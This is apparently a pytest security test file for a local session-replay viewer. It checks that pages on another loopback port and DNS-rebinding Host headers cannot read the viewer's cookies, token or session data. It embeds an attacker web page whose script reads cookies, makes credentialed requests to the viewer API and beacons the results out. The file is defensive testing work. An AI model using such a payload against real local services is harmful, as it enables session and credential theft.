"""Attack: another server on 127.0.0.1 (a different port: cookies are not isolated by port)
or a DNS-rebinding name tries to read the replay viewer's session data.

Real `sessiontape replay` process, real Chromium, a real second server on another loopback
port serving the attacker's page.
"""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from collections.abc import Iterator

import pytest
from playwright.sync_api import sync_playwright

from agent.keys import Keyring
from agent.testing import FakeClock
from tests.attacks.hits import hit_server
from tests.journals import write_session
from tests.replay.helpers import CHROMIUM, Viewer, start_viewer
from tests.waiting import wait_until

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def viewer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Viewer]:
    home = tmp_path_factory.mktemp("tok") / "home"
    Keyring.load_or_init(home)
    sid = write_session(home, clock=FakeClock()).session_id
    yield from start_viewer(home, sid)


def _status(url: str, headers: dict[str, str]) -> tuple[int, bytes]:
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=30) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def _attacker_page(viewer_base: str) -> bytes:
    """Reads its cookies, then tries the viewer's API with credentials (cors and no-cors) and
    reports every outcome to its own server."""
    return f"""<!doctype html><html><body><script>
function report(what, text) {{ navigator.sendBeacon('/report-' + what, text); }}
report('cookie', document.cookie || '(none)');
fetch('{viewer_base}/api/session', {{credentials: 'include'}})
  .then(function (r) {{ return r.text().then(function (t) {{
    report('cors', r.status + ' ' + t); }}); }})
  .catch(function (e) {{ report('cors', 'blocked ' + e); }});
fetch('{viewer_base}/api/session', {{credentials: 'include', mode: 'no-cors'}})
  .then(function (r) {{ report('nocors', r.type + ' ' + r.status); }})
  .catch(function (e) {{ report('nocors', 'blocked ' + e); }});
</script></body></html>""".encode()


def test_page_on_another_loopback_port_cannot_read_or_ride_the_viewer(viewer: Viewer) -> None:
    """The investigator opens the viewer (which loads its session), then a page from another
    127.0.0.1 port in the same browser: that server receives no token in any cookie, the page
    sees no cookie, and its credentialed requests to the viewer's API read nothing."""
    with hit_server() as evil, sync_playwright() as p:
        evil.pages["/"] = ("text/html", _attacker_page(viewer.base))
        b = p.chromium.launch(executable_path=CHROMIUM, headless=True)
        try:
            ctx = b.new_context()
            vp = ctx.new_page()
            vp.goto(viewer.url, wait_until="domcontentloaded")
            vp.wait_for_selector("body[data-state=ready]", state="attached", timeout=60_000)
            viewer_url_after = vp.url
            assert viewer.token not in json.dumps(ctx.cookies())
            ap = ctx.new_page()
            ap.goto(evil.origin + "/", wait_until="load")
            reports = wait_until(
                lambda: (
                    dict(evil.bodies)
                    if {"/report-cookie", "/report-cors", "/report-nocors"}
                    <= dict(evil.bodies).keys()
                    else None
                ),
                what="the attacker page's three reports",
            )
        finally:
            b.close()
    assert "token=" not in viewer_url_after  # taken out of the address bar
    assert reports["/report-cookie"] == b"(none)"
    assert reports["/report-cors"].startswith(b"blocked ")
    assert reports["/report-nocors"] == b"opaque 0"
    assert all(viewer.token not in c for c in evil.cookies)
    session_id = json.loads(
        _status(viewer.base + "/api/session", {"Authorization": f"Bearer {viewer.token}"})[1]
    )["metadata"]["session_id"]
    assert all(session_id.encode() not in body for _, body in evil.bodies)


def test_credentialed_cross_origin_request_is_refused(viewer: Viewer) -> None:
    """What the browser sends for another port's page (``Sec-Fetch-Site: same-site``, its
    ``Origin``) is 403 even with the token."""
    auth = {"Authorization": f"Bearer {viewer.token}"}
    url = viewer.base + "/api/session"
    assert _status(url, auth)[0] == 200
    assert _status(url, {**auth, "Sec-Fetch-Site": "same-site"}) == (
        403,
        b"403: cross-origin request refused",
    )
    assert _status(url, {**auth, "Origin": "http://127.0.0.1:1"})[0] == 403


def test_foreign_host_header_is_refused(viewer: Viewer) -> None:
    """DNS rebinding: a request naming another host (or another port) is 421, with the token."""
    url = f"{viewer.base}/api/session?token={viewer.token}"
    for host in ("evil.example", f"evil.example:{viewer.port}", "127.0.0.1:1", "127.0.0.1"):
        assert _status(url, {"Host": host}) == (
            421,
            b"421: Host is not this viewer (127.0.0.1 only)",
        ), host
    assert _status(url, {"Host": f"localhost:{viewer.port}"})[0] == 200


def test_assets_need_the_per_launch_asset_key(viewer: Viewer) -> None:
    """Asset URLs the replay uses hold a second secret; a guessed one is 403."""
    sha = "0" * 64
    assert _status(f"{viewer.base}/assets/{'x' * 32}/{sha}", {})[0] == 403
    assert _status(f"{viewer.base}/assets/{sha}", {})[0] == 403
